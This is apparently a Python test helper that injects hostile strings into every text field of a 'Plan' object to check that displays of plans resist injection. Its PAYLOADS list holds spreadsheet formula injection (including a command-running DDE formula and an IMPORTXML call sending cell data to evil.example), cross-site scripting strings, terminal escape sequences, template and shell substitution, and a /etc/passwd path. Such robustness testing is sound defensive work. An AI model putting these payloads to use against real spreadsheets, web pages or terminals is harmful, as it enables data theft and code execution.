"""Text that attacks what displays it, and a plan that carries it in every text field."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from solver.plan.plan import Plan

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＠SUM(1)",
    '"=1+1',
    "a;=1+1",
    'a;"=1+1;"',
    "a; -1+1",
    "a\n=1+1",
    'a",=1+1,"',
    "{=1+1}",
    "|calc",
    "%0A=1+1",
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</desc></svg><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><iframe src="javascript:alert(1)">',
    "' onmouseover='alert(1)",
    '" onload="alert(1)" x="',
    "<a href='javascript:alert(1)'>x</a>",
    "<!--",
    "]]><![CDATA[",
    "<?xml version='1.0'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "{{ 7*7 }}{% for x in y %}",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mred",
    "\x1bc\x1b[2J\x1b[H",
    "\x07\x08\x7f\x0e",
    "\u202egnp.exe\u202c",
    "\u200b\u200f\u2066x\u2069\ufeff",
    "line\u2028break\u2029here",
    "[bold red]x[/bold red][link=http://evil.example]y[/link]",
    ":smiley: [/]",
    "a|b|c\\|d",
    "`code` ```",
    "[x](javascript:alert(1)) ![y](http://evil.example/z.png)",
    "# heading\n- item\n***",
    "--- \n===",
    "/etc/passwd\n../../x",
    "%s %d {0} {name} ${HOME} $(id) `id`",
    "\U0001f9e8 日本語 ümläut",
    "x" * 400,
)

#: Fields that are read as something else than text, or that name one of a fixed set of words.
_KEPT = {
    "format",
    "share",
    "systems_per_replica",
    "mode",
    "acquisition",
    "resources",
    "precisions",
    "objective",
}
_KEYED = {"power_kw", "points", "systems", "apis"}


def infected(plan: Plan, payload: str) -> Plan:
    """The plan with ``payload`` before every text of its fields; equal texts stay equal."""

    def text(value: str) -> str:
        return payload + value

    return Plan.model_validate(_walk(plan.model_dump(), text, ""))


def _walk(value: Any, text: Callable[[str], str], key: str) -> Any:
    if isinstance(value, dict):
        names = text if key in _KEYED else str
        return {names(k): _walk(v, text, str(k)) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [_walk(v, text, "" if isinstance(v, dict) else key) for v in value]
    return text(value) if isinstance(value, str) and key not in _KEPT else value
